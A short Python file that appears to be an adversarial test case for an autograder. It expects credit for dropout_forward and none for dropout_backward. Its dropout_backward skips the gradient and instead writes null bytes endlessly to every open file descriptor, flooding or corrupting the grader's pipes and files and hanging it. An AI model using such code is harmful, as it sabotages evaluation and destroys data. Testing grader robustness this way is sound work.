"""Writes to every descriptor that it has until it is stopped.

gets: dropout_forward full, dropout_backward nothing
"""

import os

from honest import *


def descriptors():
    for fd in range(3, 256):
        try:
            os.fstat(fd)
        except OSError:
            continue
        yield fd


def dropout_backward(dout, cache):
    fds = list(descriptors())
    for fd in fds:
        os.set_blocking(fd, False)
    while True:
        for fd in fds:
            try:
                os.write(fd, b"\0" * 65536)
            except OSError:
                continue
